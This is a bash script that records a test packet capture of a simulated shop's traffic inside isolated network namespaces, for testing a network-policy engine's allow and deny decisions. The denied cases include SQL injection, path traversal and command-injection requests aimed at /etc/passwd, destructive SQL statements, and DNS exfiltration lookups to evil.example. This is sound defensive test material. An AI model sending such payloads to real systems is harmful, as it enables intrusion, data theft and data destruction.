#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# capture-shop.sh - record tests/data/shop.pcap, the real traffic of a small
# shop that the policy tests (tests/data/policy/shop*.yaml, shop*.expect)
# decide (run as root).
#
# Same test bed as capture-l7.sh and capture-attacks.sh (netns-lib.sh; the
# shop's servers, fixtures and clients: netns-servers.sh): a
# "switch" namespace holding a Linux bridge, one "container" namespace per
# workload on its veth ports, real servers and real clients, tcpdump on the
# bridge. 10.99.7.0/24 and fd00:99:7::/64:
#
#   frontend   .10 / ::10   curl, dig, psql (clients only)
#   api        .20 / ::20   nginx + echo module on 8080 (small JSON bodies for
#                           /v1/orders, /v1/orders/<id>, /v1/catalog/<uuid>,
#                           /healthz, /admin, anything); client of the
#                           databases and of DNS: psql, mariadb, dig
#   orders-pg  .30 / ::30   PostgreSQL 5432 (ssl off, trust), database shop:
#                           users, orders, order_items
#   catalog-db .31 / ::31   MariaDB 3306 (no TLS), database catalog: products,
#                           prices, secrets
#   dns        .53 / ::53   dnsmasq: *.shop.svc.cluster.local (local zone, host
#                           records) and api.example.com; no upstream, so other
#                           names are REFUSED
#   intruder   .99 / ::99   curl, dig: an address no Workload document binds
#
# shop.pcap, in this order, one TCP connection (or one dig) per item unless
# noted. What the policy allows travels over IPv4; what its L7 rules or
# signatures deny travels over IPv6 (the expectation format names no source
# port, so this is how shop.expect tells a denied flow from an allowed one
# with the same ends); the L4 denials are over IPv4.
#
#   allowed (IPv4)
#     frontend -> api:8080   GET /v1/orders; GET /v1/orders/17;
#                            GET /v1/orders/12345; POST /v1/orders (JSON);
#                            GET /v1/catalog/3f2b6a9e-8c1d-4e5f-9a7b-1c2d3e4f5a6b;
#                            GET /healthz with X-Probe: kubelet; keep-alive:
#                            GET /v1/orders/18 and GET /v1/catalog/0b1c2d3e-...
#                            on one connection
#     api -> dns:53          A orders-pg.shop.svc.cluster.local,
#                            catalog-db.shop.svc.cluster.local, api.example.com
#                            (UDP); catalog-db.shop.svc.cluster.local (+tcp)
#     frontend -> dns:53     A api.shop.svc.cluster.local (UDP)
#     api -> orders-pg:5432  psql: SELECT * FROM orders WHERE id = 17;
#                            INSERT INTO orders ...; UPDATE orders ...;
#                            SELECT ... FROM order_items i JOIN orders o ...;
#                            BEGIN, INSERT INTO order_items ..., COMMIT (one
#                            connection, three Query messages)
#     api -> catalog-db:3306 mariadb: SELECT * FROM products;
#                            SELECT price FROM prices WHERE product_id = 2
#   denied at L7 (IPv6)
#     frontend -> api:8080   GET /admin; DELETE /v1/orders/17;
#                            GET /v1/orders/17/../../admin (--path-as-is;
#                            normalised /v1/admin); GET /healthz without
#                            X-Probe; signatures: GET /v1/orders?id=1' OR '1'='1
#                            (sqli), GET /v1/orders/17?file=../../../../etc/passwd
#                            (traversal), GET /v1/orders/12345?host=;cat /etc/passwd
#                            (cmdi)
#     api -> orders-pg:5432  DROP TABLE order_items; SELECT * FROM users;
#                            SELECT * FROM orders; DELETE FROM orders (one
#                            Query message)
#     api -> catalog-db:3306 SELECT * FROM secrets; DELETE FROM products WHERE id = 3
#     api -> dns:53 (UDP)    4a6f686e446f65.data.evil.example,
#                            636172643d343131.x1.evil.example, www.google.com
#   denied at L4 (IPv4)
#     frontend -> orders-pg:5432  psql SELECT * FROM orders (no rule)
#     intruder -> api:8080        GET /v1/orders (bound to no workload)
#     intruder -> dns:53 (UDP)    A orders-pg.shop.svc.cluster.local
#
# Usage: tests/data/capture-shop.sh [OUTDIR]   (default: the directory of this file)
#
# Every name carries $$; the EXIT trap removes every namespace, link and
# temporary file and ends only the processes this run started (by pid), on
# success and on failure. Traffic stays inside the namespaces. The pcap is
# installed only if tcpdump dropped nothing, tshark sees no lost segment,
# every HTTP request, DNS query and SQL statement planned is in the capture
# and nothing else is (no statement a client added by itself), no client port
# was reused, and the file is under 300 KB. Re-running changes ports, ISNs
# and times only: the expectations (tests/data/policy/shop*.expect) name
# workloads, addresses and L7 content, never ports, so they stay valid.

set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
OUT=${1:-$HERE}
mkdir -p "$OUT"
OUT=$(cd "$OUT" && pwd)

WHO=capture-shop.sh
# shellcheck source=SCRIPTDIR/netns-lib.sh
. "$HERE/netns-lib.sh"
# shellcheck source=SCRIPTDIR/netns-servers.sh
. "$HERE/netns-servers.sh"
nl_need ip ss tcpdump tshark capinfos ethtool
shop_need

ID=$$
P=bhs$ID                      # namespace prefix
SW=$P-sw
BR=bhsb$ID
VETH=bhs$ID
shop_hosts

nl_init /tmp/bhshop.XXXXXX
nl_topology
# The fixtures are loaded before the capture starts.
shop_servers api dns catalog-db orders-pg

FILTER='(ip and net 10.99.7.0/24 and not ip multicast) or (ip6 and net fd00:99:7::/64 and not ip6 multicast)'

# ---------------------------------------------------------------- clients
shop_clients

# What the capture must contain, in order (checked below).
HTTP_PLAN=()
DNS_PLAN=()
SQL_PLAN=()
http() { # ns CURLARRAY-name label args...
	local ns=$1 arr=$2 label=$3; shift 3
	local -n c=$arr
	nsx "$ns" "${c[@]}" "$@"
	HTTP_PLAN+=("$label")
}
q() { # ns server-ip name [dig options]
	local ns=$1 srv=$2 name=$3; shift 3
	nsx "$ns" "${DIG[@]}" "$@" @"$srv" "$name" A >/dev/null
	DNS_PLAN+=("$name")
}
pg() { # ns conninfo statement...: one connection, one Query per statement
	local ns=$1 ci=$2 s args=(); shift 2
	for s in "$@"; do args+=(-c "$s"); SQL_PLAN+=("$s"); done
	nsx "$ns" "${PSQL[@]}" "$ci" "${args[@]}" >/dev/null
}
my() { # ns host statement: one connection, one COM_QUERY
	nsx "$1" "${MYC[@]}" -h "$2" -e "$3" >/dev/null
	SQL_PLAN+=("$3")
}

start_cap shop.pcap "$SW" "$BR"

# --- allowed (IPv4) ----------------------------------------------------------
http frontend CURL4 "GET /v1/orders" "$W/v1/orders"
http frontend CURL4 "GET /v1/orders/17" "$W/v1/orders/17"
http frontend CURL4 "GET /v1/orders/12345" "$W/v1/orders/12345"
http frontend CURL4 "POST /v1/orders" -H 'Content-Type: application/json' \
	-d '{"user_id":3,"items":[{"sku":"SKU-1","qty":2},{"sku":"SKU-3","qty":1}]}' "$W/v1/orders"
http frontend CURL4 "GET /v1/catalog/3f2b6a9e-8c1d-4e5f-9a7b-1c2d3e4f5a6b" \
	"$W/v1/catalog/3f2b6a9e-8c1d-4e5f-9a7b-1c2d3e4f5a6b"
http frontend CURL4 "GET /healthz" -H 'X-Probe: kubelet' -A 'kube-probe/1.29' "$W/healthz"
# keep-alive: two requests on one connection (curl reuses it)
nsx frontend "${CURL4[@]}" -o /dev/null "$W/v1/orders/18" "$W/v1/catalog/0b1c2d3e-4f5a-4b6c-8d7e-9f0a1b2c3d4e"
HTTP_PLAN+=("GET /v1/orders/18" "GET /v1/catalog/0b1c2d3e-4f5a-4b6c-8d7e-9f0a1b2c3d4e")

q api "${IP4[dns]}" orders-pg.$Z
q api "${IP4[dns]}" catalog-db.$Z
q api "${IP4[dns]}" api.example.com
q api "${IP4[dns]}" catalog-db.$Z +tcp
q frontend "${IP4[dns]}" api.$Z

pg api "$PG4" "SELECT * FROM orders WHERE id = 17"
pg api "$PG4" "INSERT INTO orders (id, user_id, total, status) VALUES (1001, 3, 42.50, 'new')"
pg api "$PG4" "UPDATE orders SET status = 'paid' WHERE id = 1001"
pg api "$PG4" "SELECT o.id, i.sku, i.qty FROM order_items i JOIN orders o ON o.id = i.order_id WHERE o.id = 17"
pg api "$PG4" "BEGIN" "INSERT INTO order_items (order_id, sku, qty) VALUES (1001, 'SKU-2', 3)" "COMMIT"

my api "${IP4[catalog-db]}" "SELECT * FROM products"
my api "${IP4[catalog-db]}" "SELECT price FROM prices WHERE product_id = 2"

# --- denied at L7 (IPv6) -----------------------------------------------------
http frontend CURL6 "GET /admin" "$W/admin"
http frontend CURL6 "DELETE /v1/orders/17" -X DELETE "$W/v1/orders/17"
http frontend CURL6 "GET /v1/orders/17/../../admin" --path-as-is "$W/v1/orders/17/../../admin"
http frontend CURL6 "GET /healthz" -A 'kube-probe/1.29' "$W/healthz"
http frontend CURL6 "GET /v1/orders?id=" -G --data-urlencode "id=1' OR '1'='1" "$W/v1/orders"
http frontend CURL6 "GET /v1/orders/17?file=../../../../etc/passwd" --path-as-is \
	"$W/v1/orders/17?file=../../../../etc/passwd"
http frontend CURL6 "GET /v1/orders/12345?host=" -G --data-urlencode "host=;cat /etc/passwd" "$W/v1/orders/12345"

pg api "$PG6" "DROP TABLE order_items"
pg api "$PG6" "SELECT * FROM users"
pg api "$PG6" "SELECT * FROM orders; DELETE FROM orders"

my api "${IP6[catalog-db]}" "SELECT * FROM secrets"
my api "${IP6[catalog-db]}" "DELETE FROM products WHERE id = 3"

q api "${IP6[dns]}" 4a6f686e446f65.data.evil.example
q api "${IP6[dns]}" 636172643d343131.x1.evil.example
q api "${IP6[dns]}" www.google.com

# --- denied at L4 (IPv4) -----------------------------------------------------
pg frontend "$PG4" "SELECT * FROM orders"
http intruder CURL4 "GET /v1/orders" "$W/v1/orders"
q intruder "${IP4[dns]}" orders-pg.$Z

stop_caps

# ---------------------------------------------------------------- check, install
F=shop.pcap
nl_check_caps "$F"
# every TCP connection from a fresh client port
dup=$(tshark -r "$TMP/$F" -Y 'tcp.flags.syn == 1 && tcp.flags.ack == 0' -T fields \
	-e ip.src -e ipv6.src -e tcp.srcport 2>/dev/null | sort | uniq -d)
[ -z "$dup" ] || die "$F: a client port was used twice ($dup), rerun"
# exactly the planned requests, queries and statements, in order
same() { # what want-file got-file
	diff -u "$2" "$3" >&2 || die "$F: the $1 in the capture are not the planned ones (diff above)"
}
printf '%s\n' "${HTTP_PLAN[@]}" >"$TMP/http.want"
tshark -r "$TMP/$F" -Y http.request -T fields -e http.request.method -e http.request.uri 2>/dev/null |
	awk -F'\t' '{ u = $2; if ($1 == "GET" && (u ~ /\?id=/ || u ~ /\?host=/)) sub(/=.*/, "=", u); print $1 " " u }' \
	>"$TMP/http.got"
same "HTTP requests" "$TMP/http.want" "$TMP/http.got"
printf '%s\n' "${DNS_PLAN[@]}" >"$TMP/dns.want"
tshark -r "$TMP/$F" -Y 'dns.flags.response == 0' -T fields -e dns.qry.name 2>/dev/null >"$TMP/dns.got"
same "DNS queries" "$TMP/dns.want" "$TMP/dns.got"
printf '%s\n' "${SQL_PLAN[@]}" >"$TMP/sql.want"
tshark -r "$TMP/$F" -Y 'pgsql.query or mysql.query' -T fields -e pgsql.query -e mysql.query 2>/dev/null |
	sed 's/\t//' >"$TMP/sql.got"
same "SQL statements" "$TMP/sql.want" "$TMP/sql.got"

nl_install "$OUT" "$F"
echo "HTTP requests: ${#HTTP_PLAN[@]}, DNS queries: ${#DNS_PLAN[@]}, SQL statements: ${#SQL_PLAN[@]}"
